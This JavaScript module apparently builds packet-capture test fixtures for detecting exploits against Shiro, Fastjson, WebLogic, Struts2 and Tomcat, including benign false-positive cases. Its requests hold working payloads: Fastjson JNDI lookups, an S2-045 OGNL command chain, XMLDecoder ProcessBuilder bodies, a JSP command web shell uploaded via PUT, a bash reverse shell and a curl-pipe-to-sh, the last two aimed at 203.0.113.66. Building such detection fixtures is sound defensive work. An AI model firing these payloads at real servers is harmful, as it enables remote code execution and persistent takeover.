/** Shiro, Fastjson, WebLogic, Struts, Tomcat. */
import { blocked, html, json, noise, notFound, page, text } from './answers.mjs';

const b64 = (bytes, seed) => noise(bytes, seed).toString('base64');
const deleteMe = { 'Set-Cookie': ['rememberMe=deleteMe; Path=/; Max-Age=0; Expires=Sun, 20-Oct-2019 08:00:00 GMT', 'JSESSIONID=4A1F6C0B; Path=/; HttpOnly'] };
const ID = 'uid=0(root) gid=0(root) groups=0(root)\n';

const shiro = 'java/shiro-rememberme/';
const shiroScenarios = [
  { file: `${shiro}attempted.pcap`, port: 8080, answer: () => html('<html><body>Login</body></html>', deleteMe),
    requests: [['/login', '-H', `Cookie: rememberMe=${b64(2304, 7)}`], ['/', '-H', `Cookie: JSESSIONID=11AA; rememberMe=${b64(1424, 9)}; theme=dark`]] },
  { file: `${shiro}echo.pcap`, port: 8080, answer: (q) => (q.headers.testcmd ? [200, { ...deleteMe, 'Content-Type': 'text/html' }, ID] : html('Login', deleteMe)),
    requests: [['/login', '-H', `Cookie: rememberMe=${b64(3072, 3)}`, '-H', 'Testcmd: id']] },
  { file: `${shiro}memory-shell.pcap`, port: 8080, answer: (_q, body) => html(body.startsWith('user=') ? '->|Success|<-' : 'Login', deleteMe),
    requests: [['/login', '-H', `Cookie: rememberMe=${b64(4128, 5)}`, '--data-urlencode', `user=yv66vgAAADQ${b64(4200, 8)}`]] },
  { file: `${shiro}miss-remembered-user.pcap`, port: 8080, answer: () => page('一体化政务服务平台'),
    requests: [['/index', '-H', `Cookie: JSESSIONID=22BB; rememberMe=${b64(384, 11)}`], ['/menu', '-H', `Cookie: rememberMe=${b64(384, 11)}`]] },
  { file: `${shiro}miss-big-cookies.pcap`, port: 8080,
    answer: (q) => (q.url === '/logout' ? [302, { Location: '/', 'Set-Cookie': 'rememberMe=deleteMe; Path=/; Max-Age=0' }, ''] : page('门户')),
    requests: [['/home', '-H', `Cookie: portal_session=${b64(2400, 13)}; rememberMe=true; track=${b64(1200, 14)}`], ['/logout', '-H', `Cookie: SSO=${b64(1800, 15)}; rememberMe=${b64(256, 16)}`]] },
];

const post = (path, body, type = 'application/json') => [path, '-X', 'POST', '-H', `Content-Type: ${type}`, '--data-binary', body];
const fastjson = 'java/fastjson-autotype/';
const rowset = '{"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.66:1389/Exploit","autoCommit":true}}';
const bypass47 = '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.66:1099/a","autoCommit":true}}';
const escaped = '{"name":{"\\u0040\\u0074\\u0079\\u0070\\u0065":"\\u006a\\u0061\\u0076\\u0061.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"x":{"\\u0040type":"com.sun.rowset.\\u004a\\u0064\\u0062cRowSetImpl","dataSourceName":"ldap://203.0.113.66/o","autoCommit":true}}';
const templates = `{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["yv66vgAAADQ${b64(900, 21)}"],"_name":"a.b","_tfactory":{},"_outputProperties":{}}`;
const fastjsonScenarios = [
  { file: `${fastjson}set-property-error.pcap`, port: 8090,
    answer: () => json({ timestamp: '2019-10-18T02:11:08.003+0000', status: 500, error: 'Internal Server Error', message: 'set property error, autoCommit; nested exception is com.alibaba.fastjson.JSONException: set property error, autoCommit', path: '/' }, 500),
    requests: [post('/', bypass47), post('/api/user/save', escaped)] },
  { file: `${fastjson}refused.pcap`, port: 8090,
    answer: () => json({ status: 500, message: 'autoType is not support. com.sun.rowset.JdbcRowSetImpl' }, 500), requests: [post('/login', rowset), post('/login', templates)] },
  { file: `${fastjson}blocked.pcap`, port: 80, answer: blocked, requests: [post('/gateway/query', rowset), post('/gateway/query', '{"z":{"@type":"java.net.Inet4Address","val":"a1b2.example.net"}}')] },
  { file: `${fastjson}miss-typed-json.pcap`, port: 8090, answer: () => json({ code: 0 }), client: '10.42.3.57',
    requests: [
      post('/api/order', '{"@type":"com.example.order.dto.OrderRequest","id":17,"items":[{"@type":"com.example.order.dto.Item","sku":"A-1"}]}'),
      post('/api/schema', '{"@context":"https://schema.org","@type":"GovernmentOrganization","name":"某市行政审批局","url":"http://example.gov/"}'),
      post('/cms/article', '{"title":"Fastjson 漏洞通告","content":"攻击者在 JSON 中用 @type 指定 com.sun.rowset.JdbcRowSetImpl 触发 JNDI 查询，请升级。"}'),
    ] },
];

const soap = (inner) => `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">${inner}</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>`;
const builder = (cmd) => `<java version="1.8.0_131" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>${cmd}</string></void></array><void method="start"/></void></java>`;
const writer = '<java><java version="1.4.0" class="java.beans.XMLDecoder"><object class="java.io.PrintWriter"><string>servers/AdminServer/tmp/_WL_internal/bea_wls_internal/9j4dqk/war/a.jsp</string><void method="println"><string><![CDATA[<% out.print("ok"); %>]]></string></void><void method="close"/></object></java></java>';
const fault = (message) => [500, { 'Content-Type': 'text/xml;charset=UTF-8' },
  `<?xml version='1.0' encoding='UTF-8'?><S:Envelope xmlns:S="http://schemas.xmlsoap.org/soap/envelope/"><S:Body><S:Fault xmlns:ns4="http://www.w3.org/2003/05/soap-envelope"><faultcode>S:Server</faultcode><faultstring>${message}</faultstring></S:Fault></S:Body></S:Envelope>`];
const wsat = 'java/weblogic-wls-wsat/';
const wsatScenarios = [
  { file: `${wsat}executed.pcap`, port: 7001, answer: () => fault('0'), requests: [post('/wls-wsat/CoordinatorPortType', soap(builder('bash -i &gt;&amp; /dev/tcp/203.0.113.66/4444 0&gt;&amp;1')), 'text/xml'), post('/wls-wsat/RegistrationPortTypeRPC11', soap(writer), 'text/xml')] },
  { file: `${wsat}echo.pcap`, port: 7001, answer: () => [200, { 'Content-Type': 'text/xml' }, `xml_test_start${ID}xml_test_end`], requests: [post('/wls-wsat/ParticipantPortType', soap(builder('id')), 'text/xml;charset=UTF-8')] },
  { file: `${wsat}patched.pcap`, port: 7001, answer: () => fault('Invalid attribute for element void:class'), requests: [post('/wls-wsat/CoordinatorPortType', soap(builder('whoami')), 'text/xml')] },
  { file: `${wsat}removed.pcap`, port: 7001, answer: notFound, requests: [post('/wls-wsat/CoordinatorPortType11', soap(builder('whoami')), 'text/xml')] },
  { file: `${wsat}miss-soap.pcap`, port: 7001, answer: (q) => (q.method === 'GET' ? page('Web Services') : [200, { 'Content-Type': 'text/xml' }, '<S:Envelope xmlns:S="http://schemas.xmlsoap.org/soap/envelope/"><S:Body><r>ok</r></S:Body></S:Envelope>']), client: '10.42.3.57',
    requests: [['/wls-wsat/CoordinatorPortType'], post('/wls-wsat/CoordinatorPortType', '<S:Envelope xmlns:S="http://schemas.xmlsoap.org/soap/envelope/" xmlns:c="http://schemas.xmlsoap.org/ws/2004/10/wscoor"><S:Body><c:CreateCoordinationContext><c:CoordinationType>http://schemas.xmlsoap.org/ws/2004/10/wsat</c:CoordinationType></c:CreateCoordinationContext></S:Body></S:Envelope>', 'text/xml'),
      post('/cms/post', 'title=WebLogic&body=POST+/wls-wsat/CoordinatorPortType+with+java.lang.ProcessBuilder+in+a+WorkContext', 'application/x-www-form-urlencoded')] },
];
const async_ = 'java/weblogic-async/';
const wsa = (inner) => `<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa="http://www.w3.org/2005/08/addressing" xmlns:asy="http://www.bea.com/async/AsyncResponseService"><soapenv:Header><wsa:Action>xx</wsa:Action><wsa:RelatesTo>xx</wsa:RelatesTo><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">${inner}</work:WorkContext></soapenv:Header><soapenv:Body><asy:onAsyncDelivery/></soapenv:Body></soapenv:Envelope>`;
const toplink = '<java><class><string>oracle.toplink.internal.sessions.UnitOfWorkChangeSet</string><void><array class="byte" length="8"><void index="0"><byte>-84</byte></void><void index="1"><byte>-19</byte></void></array></void></class></java>';
const fsxml = '<java><class><string>com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext</string><void><string>http://203.0.113.66:8000/poc.xml</string></void></class></java>';
const asyncScenarios = [
  { file: `${async_}accepted.pcap`, port: 7001, answer: () => [202, { 'Content-Length': '0' }, ''], requests: [post('/_async/AsyncResponseService', wsa(builder('curl http://203.0.113.66/s|sh').replace(/<java [^>]*>|<\/java>/g, '')), 'text/xml'), post('/_async/AsyncResponseServiceSoap12', wsa(toplink), 'text/xml')] },
  { file: `${async_}blocked.pcap`, port: 7001, answer: blocked, requests: [post('/_async/AsyncResponseServiceHttps', wsa(fsxml), 'text/xml')] },
  { file: `${async_}removed.pcap`, port: 7001, answer: notFound, requests: [post('/_async/AsyncResponseService', wsa(toplink), 'text/xml')] },
  { file: `${async_}miss-async-reply.pcap`, port: 7001, answer: (q) => (q.method === 'GET' ? page('Web Services') : [202, { 'Content-Length': '0' }, '']), client: '10.42.3.57',
    requests: [['/_async/AsyncResponseService?info'], post('/_async/AsyncResponseService', wsa('<string>0</string>').replace(/<work:WorkContext.*WorkContext>/, ''), 'text/xml'), post('/_async/AsyncResponseService', wsa('rO0ABXdcABx3ZWJsb2dpYy53b3JrYXJlYQ=='), 'text/xml')] },
];

const struts = 'java/struts-content-type-ognl/';
const ognl = (cmd) => `%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='${cmd}').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}`;
const math = "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('vulhub',233*233)}.multipart/form-data";
const multipart = (filename) => `------b0\r\nContent-Disposition: form-data; name="upload"; filename="${filename}"\r\nContent-Type: text/plain\r\n\r\nfoo\r\n------b0--\r\n`;
const strutsScenarios = [
  { file: `${struts}command-output.pcap`, port: 8080, answer: () => [200, { 'Content-Type': 'text/html' }, ID], requests: [['/index.action', '-H', `Content-Type: ${ognl('id')}`]] },
  { file: `${struts}computed-header.pcap`, port: 8080, answer: () => html('<html><form action="upload.action">Upload</form></html>', { vulhub: '54289' }), requests: [['/doUpload.action', '-X', 'POST', '-H', `Content-Type: ${math}`, '--data-binary', 'x']] },
  { file: 'java/struts-filename-ognl/filename.pcap', port: 8080, answer: () => [200, { 'Content-Type': 'text/html' }, 'nt authority\\system\r\n'], requests: [post('/doUpload.action', multipart(`${ognl('whoami')}\\x00b`), 'multipart/form-data; boundary=----b0')] },
  { file: `${struts}patched.pcap`, port: 8080, answer: notFound, requests: [['/login.do', '-H', `Content-Type: ${ognl('cat /etc/passwd')}`], ['/index.action', '-H', `Content-Type: ${math}`]] },
  { file: `${struts}blocked.pcap`, port: 80, answer: blocked, requests: [['/index.action', '-H', `Content-Type: ${ognl('ipconfig /all')}`]] },
  { file: 'java/struts-filename-ognl/blocked.pcap', port: 8080, answer: blocked, requests: [post('/doUpload.action', multipart(`${ognl('id')}\\x00b`), 'multipart/form-data; boundary=----b0')] },
  ...['java/struts-content-type-ognl', 'java/struts-filename-ognl'].map((folder) => ({ file: `${folder}/miss-uploads.pcap`, port: 8080, answer: () => json({ ok: true }), client: '10.42.3.57',
    requests: [post('/upload.action', multipart('增长 100%{2019}.docx'), 'multipart/form-data; boundary=----b0'), post('/upload.action', multipart('report (#final) ${draft}.xlsx'), 'multipart/form-data; boundary=----b0'),
      post('/api/graph', '{"q":"%{name}"}', 'application/vnd.api+json; profile="http://example.org/(#ext)"'),
      post('/cms/save', `title=S2-045&text=${encodeURIComponent(ognl('id'))}`, 'application/x-www-form-urlencoded')] })),
];

const tomcat = 'java/tomcat-put-jsp/';
const jsp = '<%@ page import="java.util.*,java.io.*"%><% if(request.getParameter("cmd")!=null){Process p=Runtime.getRuntime().exec(request.getParameter("cmd"));InputStream in=p.getInputStream();int c;while((c=in.read())!=-1)out.print((char)c);} %>';
const put = (path, body) => [path, '-X', 'PUT', '--data-binary', body];
const tomcatScenarios = [
  { file: `${tomcat}created.pcap`, port: 8080, answer: (q) => (q.method === 'PUT' ? [201, { 'Content-Length': '0' }, ''] : text(ID)), requests: [put('/a1.jsp/', jsp), ['/a1.jsp?cmd=id']] },
  { file: `${tomcat}created-stream.pcap`, port: 8080, answer: () => [201, { 'Content-Length': '0' }, ''], requests: [put('/up.jsp::$DATA', jsp), put('/up2.jsp%20', jsp), put('/x.JSPX/', '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>out.print(1);</jsp:scriptlet></jsp:root>')] },
  { file: `${tomcat}read-only.pcap`, port: 8080, answer: () => [403, { 'Content-Type': 'text/html' }, '<html><head><title>HTTP Status 403 – Forbidden</title></head></html>'], requests: [put('/a1.jsp/', jsp)] },
  { file: `${tomcat}miss-webdav.pcap`, port: 8080, answer: () => [201, { 'Content-Length': '0' }, ''], client: '10.42.3.57', requests: [put('/webdav/通知.docx', 'PK\x03\x04 document'), put('/api/pages/index.jsp-notes', '{"text":"rename index.jsp"}'), put('/repo/com/example/app/1.0/app-1.0.jar', 'PK\x03\x04')] },
];

export default [...shiroScenarios, ...fastjsonScenarios, ...wsatScenarios, ...asyncScenarios, ...strutsScenarios, ...tomcatScenarios];
